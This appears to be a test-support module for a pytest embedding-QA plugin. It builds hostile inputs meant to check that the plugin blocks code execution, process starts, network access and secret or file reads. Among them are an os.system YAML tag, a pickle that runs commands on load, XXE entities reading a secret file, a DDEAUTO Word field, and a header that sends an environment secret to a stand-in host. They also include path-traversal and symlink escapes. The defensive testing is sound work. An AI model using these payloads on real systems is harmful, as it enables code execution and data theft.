"""For each source and each power of docs/security.md: how the source tries to make use of the power.

An attempt writes its files into a world, and returns the words that are given to pytest.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import pickle
import shlex
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace

import numpy as np
from reportlab.pdfgen import canvas
from worlds import HOST, OUTSIDE, SECRET, VARIABLE, asks, probe_file

from pytest_embedqa.core.identity import Identity
from pytest_embedqa.upgrade.baseline import Baseline, write_baseline

RUN, START, REACH, READ_ENV, READ_FILE = POWERS = (
    "run code",
    "start a process",
    "reach a host",
    "read an environment variable",
    "read a file outside the project",
)
URL = f"http://{HOST}"
LOCAL = "http://127.0.0.1:9"
HOST_ALLOWED = f"--embedqa-allow-host={HOST}"
BAG = "--embedqa-model=python:bag:encode"
ASKING = f"openai:m?url={URL}/v1&key_env={VARIABLE}&retries=1&timeout=20"


@dataclass(frozen=True)
class Attempt:
    """One way to try it.

    Attributes:
        prepare: Writes the files into a world, and returns words for pytest.
        says: What a run prints that did not let it: it shows that the run came so far.
        allowed: Makes of a world and the words those that allow it.
        environment: Variables of the environment.
    """

    prepare: Callable[..., Sequence[str]]
    says: str = ""
    allowed: Callable[..., Sequence[str]] | None = None
    environment: Callable[..., dict[str, str]] = lambda world: {}  # noqa: ARG005


def spec_for(power):
    """A spec that makes use of a power."""
    return lambda world: {
        RUN: "python:side_effect:encode",
        START: world.start,
        REACH: ASKING,
        READ_ENV: ASKING,
    }[power]


def words_for(power):
    """Words of a command line that make use of a power."""

    def words(world):
        if power != READ_FILE:
            return [f"--embedqa-model={spec_for(power)(world)}", "test_it.py"]
        # An unknown key is shown.
        (world.outside / "how.yaml").write_text(f"{OUTSIDE}: 1\n", encoding="utf-8")
        return [f"--embedqa-retriever={world.outside / 'how.yaml'}", "test_it.py"]

    return words


def in_environment(power):
    """The same words in an environment variable."""
    return Attempt(lambda _: [], environment=lambda world: {"PYTEST_ADDOPTS": shlex.join(words_for(power)(world))})


def in_ini(power):
    """The same words in an ini file."""

    def prepare(world):
        words = words_for(power)(world)
        name, _, value = words[0].removeprefix("--").partition("=")
        line = f"embedqa_model = {value}" if name == "embedqa-model" else f"addopts = {shlex.quote(words[0])}"
        world.write("pytest.ini", f"[pytest]\n{line}\n")
        return words[1:]

    return Attempt(prepare)


def in_conftest(power):
    """Python that makes use of a power."""

    def prepare(world):
        secret = world.outside / "secret.md"
        world.write(
            "conftest.py",
            {
                RUN: "import side_effect",
                START: f"import subprocess, sys\nsubprocess.run([sys.executable, {str(world.project / 'starter.py')!r}])",
                REACH: f"import httpx\nhttpx.get({URL!r})",
                READ_ENV: f"import httpx, os\nhttpx.get({URL!r}, headers={{'A': os.environ[{VARIABLE!r}]}})",
                READ_FILE: f"import pathlib\ndef pytest_report_header(): return pathlib.Path({str(secret)!r}).read_text()",
            }[power],
        )
        return [BAG, "test_it.py"]

    return Attempt(prepare)


def probes(retrieve="by: bm25", corpus="documents", says="", *more, environment=lambda world: {}, allowed=None):  # noqa: ARG005
    """A probe file; its retrieve and its corpus may depend on the world."""

    def prepare(world):
        world.write("documents/a.md", "Returns within 30 days.")
        told = [one(world) if callable(one) else one for one in (retrieve, corpus)]
        world.write("a.probe.yaml", probe_file(*told))
        return [BAG, *more, "a.probe.yaml"]

    return Attempt(prepare, says, allowed, environment)


def plus(*words):
    """Allows an attempt by more words."""
    return lambda world, before: [*before, *words]  # noqa: ARG005


def linked(target):
    """A corpus in which a link leads outside."""

    def corpus(world):
        (world.project / "documents" / "linked.md").symlink_to(target(world))
        return "documents"

    return corpus


def with_key(world):
    """The key of OpenWebUI is the secret that must not leave."""
    return {"OPENWEBUI_API_KEY": SECRET}


TAGGED = """
corpus: !!python/object/apply:os.system ["touch {0}/trace-of-ran {0}/trace-of-started"]
probes: !!python/object/new:side_effect.encode [[a]]
"""


def tagged(world):
    """A probe file whose YAML asks for objects of Python."""
    world.write("a.probe.yaml", TAGGED.format(world.outside))
    return [BAG, "a.probe.yaml"]


def with_code(name, world):
    """A model's folder that names code of its own: for its modules, or for its transformer."""
    traces = [str(world.outside / f"trace-of-{one}") for one in ("ran", "started")]
    code = (
        f"import pathlib, subprocess\npathlib.Path({traces[0]!r}).touch()\nsubprocess.run(['touch', {traces[1]!r}])\n"
    )
    world.write(f"{name}/evil.py", f"{code}class Module: ...\n")
    mapped = dict.fromkeys(("AutoConfig", "AutoModel", "AutoModelForSequenceClassification"), "evil.Module")
    world.write(f"{name}/config.json", json.dumps({"model_type": "evil", "auto_map": mapped}))
    if name == "modules":
        listed = [{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}]
        world.write(f"{name}/modules.json", json.dumps(listed))


def model(name):
    """A model's folder with code, which a spec of the command line names."""

    def prepare(world):
        with_code(name, world)
        return [f"--embedqa-model=st:{name}?name=m", "test_it.py"]

    def trusted(world, words):
        return [words[0] + "&trust_remote_code=true", *words[1:]]

    return Attempt(prepare, "trust_remote_code=True", trusted)


def reranker(world):
    """A model's folder with code, which a probe file names."""
    with_code("plain", world)
    return "by: bm25, reranker: 'st:./plain'"


def card(path):
    """A card of a data set that names where its rows are."""

    def prepare(world):
        rows = "".join(json.dumps({"text": f"{OUTSIDE} {n}", "label": n % 2}) + "\n" for n in range(20))
        (world.outside / "rows.jsonl").write_text(rows, encoding="utf-8")
        listed = [{"config_name": "default", "data_files": [{"split": "test", "path": path(world)}]}]
        world.write("data/mteb/banking77/README.md", f"---\nconfigs: {json.dumps(listed)}\n---\n")
        world.write(
            "test_task.py",
            "from pytest_embedqa import mteb_task\n@mteb_task('Banking77Classification', min_accuracy=0.9)\ndef test_task(): ...\n",
        )
        return [BAG, "--embedqa-datasets=data", "test_task.py"]

    return Attempt(prepare, "files outside this folder are not read. Put the data there")


def baseline(spec, *more, says, **allowed):
    """The file of a baseline with this spec, to whose encoder a speed test compares."""

    def prepare(world):
        facts = {"spec": spec(world), "digest": "1", "prompts_from": "none", **Identity("m", "python").as_dict()}
        write_baseline(world.project / "b.json", Baseline(facts, np.eye(2, dtype=np.float32), ()))
        world.write(
            "test_speed.py",
            "from pytest_embedqa import throughput\n@throughput(min_texts_per_s=0.1, length=8, batch_size=2, max_seconds=5)\ndef test_speed(): ...\n",
        )
        return [BAG, "--embedqa-baseline=b.json", "test_speed.py", *more]

    def by_name(world, words):
        return [*words, f"--embedqa-allow-spec={spec(world)}"]

    return Attempt(prepare, says, by_name, **allowed)


def evidence_elsewhere(world):
    """A baseline whose evidence is a file outside: what can't be read of it would be shown."""
    path = world.project / "b.json"
    write_baseline(
        path,
        Baseline(
            {"spec": "python:bag:encode", "digest": "1", "prompts_from": "none", **Identity("m", "python").as_dict()},
            np.eye(2, dtype=np.float32),
            (),
        ),
    )
    facts = json.loads(path.read_text(encoding="utf-8"))
    elsewhere = world.outside / "evidence.json.gz"
    elsewhere.write_bytes(gzip.compress(OUTSIDE.encode()))
    named = {"file": f"../outside/{elsewhere.name}", "sha256": hashlib.sha256(elsewhere.read_bytes()).hexdigest()}
    facts = {**facts, "evidence": named}
    facts.pop("checksum")
    compact = json.dumps(facts, sort_keys=True, ensure_ascii=False, separators=(",", ":"))
    facts["checksum"] = hashlib.sha256(compact.encode()).hexdigest()
    path.write_text(json.dumps(facts), encoding="utf-8")
    world.write("test_speed.py", "from pytest_embedqa import throughput\n@throughput()\ndef test_speed(): ...\n")
    return [BAG, "--embedqa-baseline=b.json", "test_speed.py"]


PAGE = f"""<html><head><meta http-equiv="refresh" content="0; url={URL}"><link rel="stylesheet" href="{URL}/a.css">
<script src="{URL}/a.js"></script><script>require("child_process").exec("touch started")</script></head>
<body><p>Returns within 30 days of ${{{VARIABLE}}} %{VARIABLE}%.</p><img src="{URL}/a.png"><iframe src="{URL}"></iframe>
<object data="file://{{0}}/secret.md"></object></body></html>"""
ENTITIES = '<!DOCTYPE w [<!ENTITY e SYSTEM "file://{0}/secret.md"><!ENTITY h SYSTEM "{1}/e">]>'
DOCUMENT = """<?xml version="1.0"?>{}
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
<w:p><w:r><w:t>Returns within 30 days {}</w:t></w:r></w:p>
<w:p><w:fldSimple w:instr="DDEAUTO sh -c started"><w:r><w:t>of it</w:t></w:r></w:fldSimple></w:p></w:body></w:document>"""
RELATIONS = """<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>"""
RELATION = '<Relationship Id="{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/>'
TYPES = """<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""


def word_file(entities="", used=""):
    """A Word file with a template elsewhere and a field that starts a program, and what stands before its text."""
    external = ' TargetMode="External"'
    word = io.BytesIO()
    with zipfile.ZipFile(word, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr(
            "_rels/.rels", RELATIONS.format(RELATION.format("r1", "officeDocument", "word/document.xml", ""))
        )
        archive.writestr("word/document.xml", DOCUMENT.format(entities, used))
        outside = RELATION.format("r2", "attachedTemplate", f"{URL}/t.dotm", external)
        archive.writestr("word/_rels/document.xml.rels", RELATIONS.format(outside))
    return word.getvalue()


def entities(world):
    """A Word file whose XML takes in a file and a page from elsewhere."""
    world.write("documents/word.docx", word_file(ENTITIES.format(world.outside, URL), "&e; &h;"))
    return "documents"


def documents(world):
    """Documents that ask for all that a careless reader would do."""
    world.write("documents/word.docx", word_file())
    world.write("documents/page.html", PAGE.replace("{0}", str(world.outside)))
    world.write(
        "documents/text.md", f"![30 days]({URL}/a.png) `python:side_effect:encode` {{{{ 7*7 }}}} ${{{VARIABLE}}}"
    )
    drawn = io.BytesIO()
    sheet = canvas.Canvas(drawn)
    sheet.drawString(72, 700, "Returns within 30 days")
    sheet.linkURL(f"{URL}/pdf", (0, 0, 500, 800))
    sheet.save()
    world.write("documents/sheet.pdf", drawn.getvalue())
    return "documents"


def served(status=200, headers=None, body=b"{}", says=""):
    """A server on this machine, asked by a probe file, with an answer that wants more."""

    def prepare(world):
        told = {name: value.format(world.outside) for name, value in (headers or {}).items()}
        url = world.serve(status, told, body)
        world.write("a.probe.yaml", probe_file(asks(url), corpus=None))
        return [BAG, "a.probe.yaml"]

    return Attempt(prepare, says)


def embedding(status, headers, says):
    """A server of vectors on this machine, with an answer that wants more."""

    def prepare(world):
        return [
            f"--embedqa-model=openai:m?url={world.serve(status, headers, b'')}/v1&retries=1&timeout=20",
            "test_it.py",
        ]

    return Attempt(prepare, says)


class Runs:
    """What runs a command as soon as it is unpickled."""

    def __init__(self, command):
        """Keep the command."""
        self.command = command

    def __reduce__(self):
        """How to unpickle it."""
        return os.system, (self.command,)


def pickled(world):
    """A server whose answer is a pickle that runs a command."""
    traces = [str(world.outside / f"trace-of-{one}") for one in ("ran", "started")]
    body = pickle.dumps(Runs(f"touch {shlex.join(traces)}"))
    url = world.serve(200, {"Content-Type": "application/x-python-pickle"}, body)
    world.write("a.probe.yaml", probe_file(asks(url), corpus=None))
    return [BAG, "a.probe.yaml"]


NOT_ASKED = f"a.probe.yaml:1: the host {HOST} is not asked, as only a file names it"
NOT_SENT = f"is not sent to {URL}, as only a file asks for that"
NO_RERANKER = "is not loaded: "
NOT_LOADED = "which is not loaded: "
LEFT = "30 days"  # what came back instead of the words that the probe wants
SENDING = asks(URL, f"Bearer ${{{VARIABLE}}}")
OPENWEBUI = f"openwebui: '{URL}?knowledge=1'"
OUTSIDE_ALLOWED = {"allowed": plus("--embedqa-allow-outside"), "says": "it leads out of"}
READ_ENTITIES = probes(corpus=entities, says="word/document.xml has a document type")
READ_DOCUMENTS = probes(corpus=documents, says=LEFT)
MOVED = "redirects to"

ATTEMPTS = {
    **{("command line", power): [Attempt(words_for(power))] for power in POWERS},
    **{("environment", power): [in_environment(power)] for power in POWERS},
    **{("ini file", power): [in_ini(power)] for power in POWERS},
    **{("conftest", power): [in_conftest(power)] for power in POWERS},
    ("probe file", RUN): [
        Attempt(tagged, "a.probe.yaml:2"),
        probes(reranker, says="trust_remote_code"),
        probes("by: bm25, reranker: 'st:./plain?trust_remote_code=true'", says="it sets trust_remote_code"),
        probes(
            "by: bm25, reranker: 'python:side_effect:encode'",
            says=f"{NO_RERANKER}the engine 'python' imports a module",
            allowed=plus("--embedqa-allow-spec=python:side_effect:encode"),
        ),
        # The file of --embedqa-retriever is one, too.
        Attempt(
            lambda world: [
                BAG,
                f"--embedqa-retriever={world.write('how.yaml', '{by: bm25, reranker: python:side_effect:encode}')}",
                probes().prepare(world)[-1],
            ],
            "how.yaml: the reranker 'python:side_effect:encode' is not loaded",
            plus("--embedqa-allow-spec=python:side_effect:encode"),
        ),
    ],
    ("probe file", START): [
        Attempt(tagged, "a.probe.yaml:2"),
        probes(
            lambda world: f"by: bm25, reranker: {json.dumps(world.start)}",
            says=f"{NO_RERANKER}start= runs a command",
            allowed=lambda world, words: [*words, f"--embedqa-allow-spec={world.start}"],
        ),
        # Another way to search keeps the reranker, and a part of a system is asked like the whole.
        Attempt(
            lambda world: [
                *probes(f"by: bm25, reranker: {json.dumps(f'rerank:[bm25][{world.start}]')}").prepare(world),
                "--embedqa-retriever=rerank",
            ],
            f"{NO_RERANKER}start= runs a command",
        ),
        probes(lambda world: f"openwebui: {json.dumps(world.start)}", says="names no OpenWebUI"),
    ],
    ("probe file", REACH): [
        probes(asks(URL), None, NOT_ASKED, allowed=plus(HOST_ALLOWED)),
        probes(asks(f"{URL}:80/q"), None, NOT_ASKED, allowed=plus(f"{HOST_ALLOWED}:80")),
        probes(
            OPENWEBUI,
            None,
            NOT_ASKED,
            f"--embedqa-probe-env=OPENWEBUI_API_KEY={LOCAL}",
            environment=with_key,
            allowed=plus(HOST_ALLOWED, f"--embedqa-probe-env=OPENWEBUI_API_KEY={URL}"),
        ),
        probes(f"by: bm25, reranker: {json.dumps(ASKING)}", says=f"{NO_RERANKER}the engine 'openai' asks a server"),
        # The file of --embedqa-retriever is one, too.
        Attempt(
            lambda world: [
                BAG,
                f"--embedqa-retriever={world.write('how.yaml', '{' + asks(URL) + '}')}",
                probes().prepare(world)[-1],
            ],
            f"how.yaml: the host {HOST} is not asked",
            plus(HOST_ALLOWED),
        ),
    ],
    ("probe file", READ_ENV): [
        probes(f"by: bm25, reranker: {json.dumps(ASKING)}", None, NO_RERANKER),
        probes(SENDING, None, NOT_SENT, HOST_ALLOWED, allowed=plus(f"--embedqa-probe-env={VARIABLE}={URL}")),
        probes(
            OPENWEBUI,
            None,
            NOT_SENT,
            HOST_ALLOWED,
            environment=with_key,
            allowed=plus(f"--embedqa-probe-env=OPENWEBUI_API_KEY={URL}"),
        ),
        # Of another server, or of another variable, the rule says nothing.
        probes(
            SENDING,
            None,
            NOT_SENT,
            HOST_ALLOWED,
            f"--embedqa-probe-env={VARIABLE}=https://{HOST}",
            f"--embedqa-probe-env={VARIABLE}={URL}:8080",
            f"--embedqa-probe-env=OTHER={URL}",
            allowed=plus(f"--embedqa-probe-env={VARIABLE}={URL}"),
        ),
    ],
    ("probe file", READ_FILE): [
        probes(corpus=lambda world: world.outside / "secret.md", **OUTSIDE_ALLOWED),
        probes(corpus="../outside/secret.md", **OUTSIDE_ALLOWED),
        probes(corpus="documents/../../outside/secret.md", **OUTSIDE_ALLOWED),
        probes(
            corpus=lambda world: linked(lambda one: one.outside / "secret.md")(world) + "/linked.md", **OUTSIDE_ALLOWED
        ),
    ],
    ("baseline", RUN): [baseline(spec_for(RUN), says=f"{NOT_LOADED}the engine 'python' imports a module")],
    ("baseline", START): [
        baseline(spec_for(START), says=f"{NOT_LOADED}start= runs a command"),
        # What the ini file may do, a baseline of another spec may not.
        baseline(spec_for(START), "-o", "embedqa_model=openai:m?start=true+{port}", says=NOT_LOADED),
    ],
    ("baseline", REACH): [baseline(spec_for(REACH), says=f"{NOT_LOADED}the engine 'openai' asks a server")],
    ("baseline", READ_ENV): [baseline(spec_for(READ_ENV), says=NOT_LOADED)],
    ("baseline", READ_FILE): [
        Attempt(evidence_elsewhere, "its evidence must be the name of a file beside it, and is '../outside/")
    ],
    ("manifest", RUN): [model("modules"), model("plain")],
    ("manifest", START): [replace(model("modules"), allowed=None)],
    ("manifest", REACH): [card(lambda world: f"{URL}/rows.jsonl")],  # noqa: ARG005
    ("manifest", READ_ENV): [card(lambda world: f"{URL}/${{{VARIABLE}}}.jsonl")],  # noqa: ARG005
    ("manifest", READ_FILE): [
        card(lambda world: "../../../../outside/rows.jsonl"),  # noqa: ARG005
        card(lambda world: str(world.outside / "rows.jsonl")),
    ],
    **{("corpus", power): [READ_DOCUMENTS] for power in (RUN, START, READ_ENV)},
    ("corpus", REACH): [READ_DOCUMENTS, READ_ENTITIES],
    ("corpus", READ_FILE): [
        READ_DOCUMENTS,
        READ_ENTITIES,
        probes(corpus=linked(lambda world: world.outside / "secret.md"), **OUTSIDE_ALLOWED),
        probes(corpus=linked(lambda world: "../../outside/secret.md"), **OUTSIDE_ALLOWED),  # noqa: ARG005
    ],
    ("server", RUN): [Attempt(pickled, "answered what")],
    ("server", START): [Attempt(pickled, "answered what")],
    ("server", REACH): [
        served(302, {"Location": URL}, says=MOVED),
        served(307, {"Location": URL}, says=MOVED),
        embedding(307, {"Location": f"{URL}/v1/embeddings"}, MOVED),
    ],
    ("server", READ_ENV): [served(307, {"Location": f"{URL}/${{{{{VARIABLE}}}}}"}, says=MOVED)],
    ("server", READ_FILE): [
        served(307, {"Location": "file://{}/secret.md"}, says=MOVED),
        served(body=b'{"hits": [{"text": "file:secret.md", "source": "../outside/secret.md"}]}', says="file:secret.md"),
    ],
}
